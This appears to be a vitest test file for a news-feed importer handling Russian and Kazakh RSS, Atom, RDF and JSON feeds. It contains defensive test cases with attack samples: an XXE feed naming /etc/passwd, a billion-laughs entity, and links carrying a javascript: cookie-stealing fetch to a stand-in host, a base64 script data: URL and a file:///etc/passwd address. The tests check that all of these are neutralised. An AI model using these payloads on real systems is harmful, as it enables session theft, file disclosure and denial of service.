import { describe, expect, it } from 'vitest';

import { fixture, IMPORT_TIME, importFixture } from './fixture.js';

describe('RSS, Atom, RDF and JSON Feed import', () => {
  it('decodes a feed whose prolog says windows-1251 into Cyrillic titles and text', async () => {
    const batch = await importFixture('rss-windows-1251-prolog.xml');
    expect(batch.format).toBe('rss');
    expect(batch.posts.map((post) => post.title)).toEqual([
      'Акимат Алматы обещал отремонтировать дороги в Ауэзовском районе',
      'В Медеуском районе отключат горячую воду',
    ]);
    expect(batch.posts[0]!.text).toBe('Жители жалуются на ямы «размером с автомобиль».');
    expect(batch.posts[1]!.text).toBe(
      'Отключение продлится до пятницы. Ёлки на площади уже ставят.',
    );
  });

  it('maps an item to a news article with outlet, URL, exact time and language', async () => {
    const batch = await importFixture('rss-windows-1251-prolog.xml');
    expect(batch.sourceLabel).toBe('Новости Алматы');
    expect(batch.posts[0]).toEqual({
      kind: 'article',
      platform: 'news',
      nativeId: 'https://news.example.kz/2024/11/12/roads',
      title: 'Акимат Алматы обещал отремонтировать дороги в Ауэзовском районе',
      text: 'Жители жалуются на ямы «размером с автомобиль».',
      publishedAt: new Date('2024-11-12T04:30:00Z'),
      outlet: 'Новости Алматы',
      url: 'https://news.example.kz/2024/11/12/roads',
      declaredLanguage: 'ru',
      location: { file: fixture('rss-windows-1251-prolog.xml'), index: 0, line: 9 },
    });
  });

  it('parses every item when one title holds a stray vertical tab (0x0B)', async () => {
    const batch = await importFixture('rss-vertical-tab-in-title.xml');
    expect(batch.skipped).toEqual([]);
    expect(batch.posts.map((post) => post.title)).toEqual([
      'Первая новость',
      'Вторая новость с вертикальной табуляцией',
      'Третья новость',
    ]);
  });

  it('decodes entities inside a CDATA title in one pass', async () => {
    const batch = await importFixture('rss-cdata-entities-in-title.xml');
    expect(batch.posts[0]!.title).toBe('Аким «ответил» жителям');
    expect(batch.posts[0]!.outlet).toBe('Лента «Город»');
    expect(batch.posts[0]!.text).toBe('Ответ на «обращение» опубликован.');
  });

  it('decodes an ordinary escaped title once, never twice', async () => {
    const batch = await importFixture('rss-cdata-entities-in-title.xml');
    expect(batch.posts[1]!.title).toBe('Tom &amp; Jerry, AT&T и «Казахтелеком»');
    // The description is escaped HTML: one XML pass, then one HTML pass; `&amp;lt;` is `<`.
    expect(batch.posts[1]!.text).toBe('Цены 5 < 7\nвторая строка');
  });

  it('prefers content:encoded to the description and drops scripts', async () => {
    const batch = await importFixture('rss-cdata-entities-in-title.xml');
    expect(batch.posts[2]!.text).toBe('Полный текст — статьи.');
    expect(batch.posts[2]!.nativeId).toBe('https://lenta.example.kz/c');
  });

  it('reads Russian, Kazakh and day-first dates; a missing date stays undefined', async () => {
    const batch = await importFixture('rss-russian-and-kazakh-dates.xml');
    const dates = batch.posts.map((post) => post.publishedAt?.toISOString());
    expect(dates).toEqual([
      '2024-11-12T04:30:00.000Z',
      '2024-11-12T04:30:00.000Z',
      '2024-11-12T04:30:00.000Z',
      '2024-11-12T04:30:00.000Z',
      undefined,
      undefined,
      '2024-02-29T06:00:00.000Z',
    ]);
    expect(batch.skipped).toEqual([]);
    expect(batch.notes).toEqual([
      {
        location: { file: fixture('rss-russian-and-kazakh-dates.xml'), index: 5, line: 11 },
        note: 'unreadable date "вчера вечером" (dates are read as ISO 8601, 12.11.2024 09:30, 3/13/2024 2:30 PM, RFC 822, unix time or Excel serial numbers, in the years 1990–2100); the first-seen time will be used',
      },
    ]);
  });

  it('notes a date whose zone abbreviation it does not know, read on the project\'s clock', async () => {
    // "KST" was read as Almaty time without a word: 4 hours off.
    const batch = await importFixture('rss-date-with-unknown-zone-abbreviation.xml');
    expect(batch.notes?.map((note) => [note.location.line, note.note])).toEqual([[
      6,
      'date "Tue, 12 Nov 2024 10:30:00 KST": the zone "KST" is not one tyndau knows; the time is read ' +
        "on the project's clock and may be hours off (write an offset such as +09:00)",
    ]]);
  });

  it('reads offset-less feed dates in the zone it is given, not the host zone', async () => {
    const batch = await importFixture('rss-russian-and-kazakh-dates.xml', 'Europe/Moscow');
    expect(batch.posts[2]!.publishedAt).toEqual(new Date('2024-11-12T06:30:00Z'));
    expect(batch.posts[0]!.publishedAt).toEqual(new Date('2024-11-12T04:30:00Z'));
  });

  it('skips an item without title or text, keeps a title-only one as text', async () => {
    const batch = await importFixture('rss-item-without-text.xml');
    expect(batch.skipped).toEqual([
      {
        location: { file: fixture('rss-item-without-text.xml'), index: 1, line: 11 },
        reason: 'feed item has neither a title nor any text',
      },
    ]);
    expect(batch.posts.map((post) => [post.title, post.text])).toEqual([
      ['Нормальная новость', 'Текст.'],
      [undefined, 'Только заголовок'],
    ]);
  });

  it('keeps the items before the cut of a truncated feed and reports the loss', async () => {
    const batch = await importFixture('rss-truncated-in-transfer.xml');
    expect(batch.posts.map((post) => post.title)).toEqual(['Первая целая', 'Вторая целая']);
    expect(batch.skipped).toHaveLength(1);
    const file = fixture('rss-truncated-in-transfer.xml');
    expect(batch.skipped[0]!.location).toEqual({ file, line: 17 });
    expect(batch.skipped[0]!.reason).toMatch(/unfinished item/);
  });

  it('skips the one item the XML parser refuses, with its line, and reads the others', async () => {
    // A bare `<` in one headline made the parser refuse the whole feed: 0 of 3 items were read.
    const batch = await importFixture('rss-0.91-one-item-with-bare-less-than.xml');
    const file = fixture('rss-0.91-one-item-with-bare-less-than.xml');
    expect(batch.posts.map((post) => [post.title, post.url, post.location.line])).toEqual([
      ['Первая новость', 'https://old.example.kz/1', 10],
      ['Третья новость', 'https://old.example.kz/3', 21],
    ]);
    expect(batch.skipped).toEqual([{
      location: { file, index: 1, line: 15 },
      reason: 'item is not well-formed XML (Unexpected end of title); the other items are read',
    }]);
  });

  it('skips an entry that an element closed out of order ends early, and reads the entries after it', async () => {
    // The parser forgave `<title>a <em>b</title></em>` by ending the entry there: the second
    // entry was stored as "Вторая <em>запись" without link or date, and the third was lost unsaid.
    const batch = await importFixture('atom-one-entry-closed-out-of-order.xml');
    expect(batch.posts.map((post) => [post.title, post.url, post.publishedAt?.toISOString()])).toEqual([
      ['Первая запись', 'https://portal.example.kz/news/1', '2024-11-12T10:00:00.000Z'],
      ['Третья запись', 'https://portal.example.kz/news/3', '2024-11-12T12:00:00.000Z'],
    ]);
    expect(batch.skipped.map((skip) => [skip.location.line, skip.reason])).toEqual([[
      15,
      'item is not well-formed XML (an element closed out of order ended the item early: its link ' +
        'and id were lost); the other items are read',
    ]]);
  });

  it('reads Atom: HTML and XHTML text, the alternate link, published before updated', async () => {
    const batch = await importFixture('atom-kazakh-entries.xml');
    expect(batch.format).toBe('atom');
    expect(batch.posts.map(({ title, text, url, publishedAt, declaredLanguage, outlet }) => ({
      title,
      text,
      url,
      publishedAt: publishedAt?.toISOString(),
      declaredLanguage,
      outlet,
    }))).toEqual([
      {
        title: 'Көлік & жол',
        text: 'Автобус № 12 жүрмейді & кешігеді.',
        url: 'https://atom.example.kz/1',
        publishedAt: '2024-11-12T04:30:00.000Z',
        declaredLanguage: 'kk',
        outlet: 'Almaty Atom Example',
      },
      {
        title: 'Жаңарту ғана',
        text: 'Қысқаша мазмұны.',
        url: 'https://atom.example.kz/2',
        publishedAt: '2024-11-13T08:00:00.000Z',
        declaredLanguage: 'kk',
        outlet: 'Almaty Atom Example',
      },
    ]);
  });

  it('reads RSS 1.0 (RDF) with Dublin Core date and language', async () => {
    const batch = await importFixture('rdf-rss-1.0.xml');
    expect(batch.format).toBe('rdf');
    expect(batch.posts).toMatchObject([
      {
        nativeId: 'https://rdf.example.kz/1',
        title: 'Парк Горького закрыт на реконструкцию',
        text: 'Работы продлятся до весны.',
        publishedAt: new Date('2024-11-12T04:30:00Z'),
        outlet: 'RDF Example Outlet',
        declaredLanguage: 'ru',
      },
    ]);
  });

  it('reads JSON Feed, decoding content_html once and plain titles not at all', async () => {
    const batch = await importFixture('jsonfeed-1.1.json');
    expect(batch.format).toBe('jsonfeed');
    expect(batch.posts.map(({ nativeId, title, text }) => ({ nativeId, title, text }))).toEqual([
      {
        nativeId: 'jf-1',
        title: 'Tom &amp; Jerry',
        text: 'Тарифы на «воду» выросли &lt;сильно&gt;',
      },
      { nativeId: 'jf-2', title: undefined, text: 'Только текст, без заголовка.' },
    ]);
  });

  it('reads Kazakh feeds in KZ-1048 and PT154', async () => {
    for (const name of ['rss-kz-1048-prolog.xml', 'rss-pt154-prolog.xml']) {
      const batch = await importFixture(name);
      expect(batch.posts[0]!.title).toBe('Әкімдік Өтеген батыр көшесін жөндейді');
    }
  });
});

describe('a feed that declares its own entities', () => {
  it('never reads an external entity (XXE) and imports every item with a note', async () => {
    const batch = await importFixture('rss-external-entity-xxe.xml');
    const texts = batch.posts.map((post) => `${post.title ?? ''} ${post.text}`);
    expect(texts).toEqual([
      '&canary; Пароли: &passwd; и &remote;',
      'Акимат отремонтирует дорогу Ремонт улицы Абая начнётся в мае.',
    ]);
    expect(batch.posts.map((post) => post.location.line)).toEqual([11, 18]);
    expect(batch.notes?.[0]?.location.line).toBe(2);
    expect(batch.notes?.[0]?.note).toMatch(/^the feed declares its own entities in its DOCTYPE; they are ignored/);
  });

  it('does not expand a billion-laughs entity, keeping the reference as written', async () => {
    const batch = await importFixture('rss-billion-laughs.xml');
    expect(batch.posts.map((post) => [post.title, post.text])).toEqual([
      ['&lol9;', '&lol9;'],
      ['ok item', 'Акимат обещал ремонт дороги'],
    ]);
  });
});

describe('feed item links that are not web addresses', () => {
  it('are noted and not kept, so no stored link runs a script or opens a local file; the items import', async () => {
    const batch = await importFixture('rss-item-links-not-http.xml');
    expect(batch.skipped).toEqual([]);
    expect(batch.posts.map((post) => post.url)).toEqual([
      undefined,
      undefined,
      undefined,
      // Relative: read against the channel's <link>.
      'https://news.example.kz/news/2025/11/snow',
      'https://news.example.kz/news/park',
    ]);
    expect(batch.notes?.map((note) => [note.location.index, note.note])).toEqual([
      [0, 'link "javascript:fetch(\'//evil.example/\'+document.cookie)" is not an http(s) address; not kept'],
      [1, 'link "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" is not an http(s) address; not kept'],
      [2, 'link "file:///etc/passwd" is not an http(s) address; not kept'],
    ]);
  });
});

describe('feed items as news sites write them', () => {
  it('reads the article of a Yandex.News feed from yandex:full-text, CDATA or escaped', async () => {
    const batch = await importFixture('rss-yandex-full-text-relative-links.xml');
    expect(batch.posts.map((post) => post.text)).toEqual([
      'Акимат Алматы начал ремонт дороги на проспекте Абая.\nРаботы продлятся до мая.',
      'Завтра не будет воды & света в домах на улице Жандосова.',
      'Текст из описания',
    ]);
  });

  it('reads the article of a Yandex Turbo feed from turbo:content, without the header that repeats the headline', async () => {
    const batch = await importFixture('rss-yandex-turbo-content.xml');
    // Each was stored as its headline alone.
    expect(batch.posts.map((post) => [post.title, post.text])).toEqual([
      ['Жители Кок-Тобе остались без воды',
        'Жители Кок-Тобе в Медеуском районе третий день без воды.\nВ «Алматы Су» обещают устранить аварию до вечера.'],
      ['Новые автобусы на маршруте 92', 'На маршрут вышли 20 новых автобусов.'],
      ['Только описание', 'Текст из описания'],
    ]);
  });

  it('reads the description when the fuller body element holds no words (an image, an empty element)', async () => {
    const rss = await importFixture('rss-body-elements-without-words.xml');
    const rdf = await importFixture('rdf-content-encoded-without-words.xml');

    // The first three were stored as their headlines alone, the RDF item likewise.
    expect(rss.posts.map((post) => post.text)).toEqual([
      'Пробка на Саина растянулась на три километра.',
      'Снегопад в Алматы остановил движение на Аль-Фараби.',
      'Аким отвечает на вопросы жителей Наурызбайского района.',
      'Акимат Алматы объявил о ремонте теплосетей в Турксибском районе.',
    ]);
    expect(rdf.posts.map((post) => post.text)).toEqual(['Во дворе на Тимирязева неделю не вывозят мусор.']);
  });

  it('reads a date up to a day after the import time as the import time: a local time written as GMT', async () => {
    const batch = await importFixture('rss-local-times-written-as-gmt.xml');

    // The first stood at 03:30 UTC, 08:30 in Almaty on a day that had not come.
    expect(batch.posts.map((post) => post.publishedAt?.toISOString())).toEqual([
      IMPORT_TIME.toISOString(),
      IMPORT_TIME.toISOString(),
      '2026-01-09T22:00:00.000Z',
    ]);
    expect(batch.notes?.map((note) => note.note)).toEqual([
      'date "Sat, 10 Jan 2026 03:30:00 GMT" is 3.5 h after the import time (a local time written in another zone?); ' +
        'read as the import time',
    ]);
  });

  it('makes relative item links absolute against the channel link', async () => {
    const batch = await importFixture('rss-yandex-full-text-relative-links.xml');
    expect(batch.posts.map((post) => post.url)).toEqual([
      'https://vecher.example.kz/news/2024/03/10/roads',
      // The feed's utm_source tag is dropped, as live collection drops it.
      'https://vecher.example.kz/news/2024/03/11/water',
      'https://vecher.example.kz/news/3',
    ]);
  });

  it("makes relative Atom links absolute against the feed's xml:base", async () => {
    const batch = await importFixture('atom-xml-base-relative-links.xml');
    expect(batch.posts.map((post) => post.url)).toEqual([
      'https://news.example.kz/kk/articles/123',
      'https://news.example.kz/ru/articles/124',
    ]);
  });
});

describe('feeds as older and .NET sites write them', () => {
  it('dates an RSS item by <a10:updated> when it has no pubDate (.NET SyndicationFeed)', async () => {
    const batch = await importFixture('rss-dotnet-a10-updated-no-pubdate.xml');
    expect(batch.posts.map((post) => post.publishedAt?.toISOString())).toEqual(['2024-03-10T10:00:00.000Z']);
  });

  it("reads Atom 0.3's type=\"text/html\" content as markup, not as text with its tags", async () => {
    const batch = await importFixture('atom-0.3-escaped-html-content.xml');
    expect(batch.posts.map((post) => [post.text, post.publishedAt?.toISOString()])).toEqual([
      ['Во дворе не убран снег', '2024-03-10T07:00:00.000Z'],
    ]);
  });
});

describe('Media RSS descriptions', () => {
  it('reads media:description from the item, a media:group or a media:content when nothing else has text', async () => {
    const batch = await importFixture('rss-media-rss-descriptions.xml');
    expect(batch.posts.map((post) => [post.title, post.text])).toEqual([
      ['Снегопад парализовал движение', 'Коммунальные службы не успевают убирать снег на Абая.'],
      ['Новые автобусы вышли на маршрут', 'Акимат закупил сто автобусов на газе.'],
      ['Сюжет о ремонте дорог', 'Ремонт на Сатпаева закончат к декабрю.'],
      ['Описание важнее медиа', 'Текст из description.'],
      ['Сюжет на нашем YouTube-канале', 'Репортаж о пробках на Аль-Фараби.'],
    ]);
  });

  it('keeps a news site\'s item that links to its video on YouTube as the site\'s article', async () => {
    const batch = await importFixture('rss-media-rss-descriptions.xml');
    const video = batch.posts.at(-1)!;
    expect([video.kind, video.platform, video.outlet, video.url]).toEqual([
      'article', 'news', 'Городской телеканал', 'https://www.youtube.com/watch?v=tvNEWS00001',
    ]);
  });
});

describe('a feed of a YouTube channel', () => {
  it('gives YouTube social posts keyed by video id, with no outlet, link or channel name', async () => {
    const batch = await importFixture('atom-youtube-channel-videos.xml');
    const [video] = batch.posts;
    expect([video!.kind, video!.platform, video!.title, video!.outlet, video!.url]).toEqual(['social', 'youtube', undefined, undefined, undefined]);
    // The id a YouTube comment's videoId names, so that comments answer the video.
    expect(video!.nativeId).toBe('abcDEF12345');
    expect(video!.text).toBe('Дороги Алматы после снегопада\nСнег не убирают третий день.\nПишите в комментариях, где хуже всего.');
    expect(video!.publishedAt).toEqual(new Date('2024-11-12T05:00:00Z'));
    expect(batch.sourceLabel).toBe(fixture('atom-youtube-channel-videos.xml'));
  });
});

describe('aggregator feeds', () => {
  it('takes a Google News item\'s outlet from <source>, off its headline, and drops the headline listing', async () => {
    const batch = await importFixture('rss-google-news-search.xml');
    expect(batch.posts.map((post) => [post.outlet, post.title, post.text])).toEqual([
      ['Tengrinews.kz', undefined, 'Акимат Алматы объявил о ремонте дорог'],
      ['Vlast.kz', undefined, 'Жители жалуются на отопление'],
    ]);
  });

  it('follows a Google Alerts click-through link to the article and names its site as the outlet', async () => {
    const batch = await importFixture('atom-google-alerts.xml');
    const [article, video] = batch.posts;
    expect([article!.outlet, article!.url, article!.title]).toEqual([
      'tengrinews.kz',
      'https://tengrinews.kz/kazakhstan_news/akimat-1/',
      'Акимат Алматы объявил о ремонте дорог',
    ]);
    expect([video!.kind, video!.platform, video!.nativeId, video!.url]).toEqual(['social', 'youtube', 'abcDEF12345', undefined]);
  });
});

describe('RSS titles written as HTML', () => {
  it('reads a title holding tags as the text of its markup; a bare < stays', async () => {
    const batch = await importFixture('rss-html-markup-in-titles.xml');
    expect(batch.posts.map((post) => post.title)).toEqual([
      'Срочно: аким ответил жителям',
      'Тарифы на воду вырастут с декабря',
      'Рост цен <3% и a<b: без разметки',
    ]);
  });
});

describe('a feed mirroring a Telegram channel', () => {
  it('gives Telegram posts keyed as the channel\'s collection keys them, the title not repeated', async () => {
    const batch = await importFixture('rss-telegram-channel-mirror.xml');
    expect(batch.posts.map((post) => [post.kind, post.platform, post.nativeId, post.text, post.outlet])).toEqual([
      ['social', 'telegram', 'almaty_residents:101', 'Опять нет воды в Алмалинском районе\nТретий день подряд', undefined],
    ]);
  });
});
